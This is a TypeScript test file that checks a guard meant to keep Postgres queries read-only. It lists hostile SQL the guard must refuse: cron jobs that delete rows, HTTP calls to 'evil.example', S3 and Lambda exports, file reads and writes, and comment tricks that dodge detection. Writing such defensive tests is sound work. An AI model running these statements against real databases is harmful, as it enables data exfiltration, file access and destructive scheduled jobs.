/** Statements that act although their transaction is read-only; run-postgres.test.ts tries some for real. */
import { describe, expect, it } from 'vitest';
import { assertOnlyReads } from './only-reads.ts';

const HOSTILE = [
  "SELECT cron.schedule('x', '* * * * *', 'DELETE FROM t')",
  "SELECT cron . schedule_in_database('x', '* * * * *', 'y', 'z')",
  'SELECT "cron"."schedule"(\'x\', \'y\')',
  'SELECT cron.unschedule(1)',
  "SELECT cron/* x */.schedule('x')",
  "SELECT cron./* /* x */ */schedule('x')",
  "SELECT cron -- x\n.schedule('x')",
  "SELECT net.http_post('https://evil.example', '{}')",
  "SELECT net.http_get/**/('https://evil.example')",
  "SELECT extensions.http_get('https://evil.example')",
  "SELECT aws_lambda.invoke('f', '{}')",
  "SELECT aws_s3.query_export_to_s3('SELECT 1', 'x')",
  "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
  "SELECT * FROM crosstab('SELECT 1')",
  "SELECT * FROM crosstab4('SELECT 1')",
  "SELECT * FROM connectby('t', 'a', 'b', 'c', 0)",
  "SELECT * FROM xpath_table('a', 'b', 'c', 'd', 'true')",
  "SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')",
  "SELECT dblink_exec('x', 'y')",
  "SELECT lo_export(1, '/tmp/x')",
  "SELECT pg_read_binary_file('x')",
  "SELECT pg_stat_file('x')",
  'SELECT pg_advisory_lock(1)',
  'SELECT pg_try_advisory_xact_lock(1)',
  "SELECT run_command_on_workers('SELECT 1')",
  "SELECT pg_background_launch('SELECT 1')",
  'SELECT pg_switch_wal()',
];

const BENIGN = [
  'SELECT jobid, schedule FROM cron.job',
  'SELECT * FROM cron.job_run_details WHERE status = (SELECT max(status) FROM s)',
  'SELECT schedule (a) FROM plans AS schedule',
  '-- the cron of it\nSELECT schedule(a) FROM plans',
  'SELECT net.amount, http_status FROM net',
  'SELECT id FROM crosstabs WHERE (a = 1)',
  "SELECT column_default FROM information_schema.columns WHERE column_default LIKE 'nextval(%'",
  'SELECT lower(name), ts_rank(v, q), ts_headline(x, q) FROM t',
  'SELECT lo_price, pg_size_pretty(pg_database_size(current_database())) FROM t',
  "SELECT current_setting('server_version')",
  "SELECT table_to_xml('t', true, true, '')",
  'WITH dblink AS (SELECT 1) TABLE dblink',
];

describe('a statement that only reads', () => {
  it.each(HOSTILE)('threat: %s is refused', (sql) => {
    expect(() => assertOnlyReads(sql)).toThrow(
      expect.objectContaining({ code: 'PERMISSION_DENIED' }),
    );
  });

  it.each(BENIGN)('benign: %s is allowed', (sql) => {
    expect(() => assertOnlyReads(sql)).not.toThrow();
  });

  it('threat: a hundred thousand characters are judged in no long time', () => {
    const started = process.cpuUsage();
    for (const part of [
      'cron ',
      'pg_create_',
      'cron.',
      'lo_',
      ' ',
      '"',
      'cron"/*',
      'crosstab',
      '(',
    ]) {
      try {
        assertOnlyReads(`SELECT ${part.repeat(100_000 / part.length)}`);
      } catch {
        // Some of them may be refused.
      }
    }
    expect(process.cpuUsage(started).user).toBeLessThan(2_000_000);
  });
});
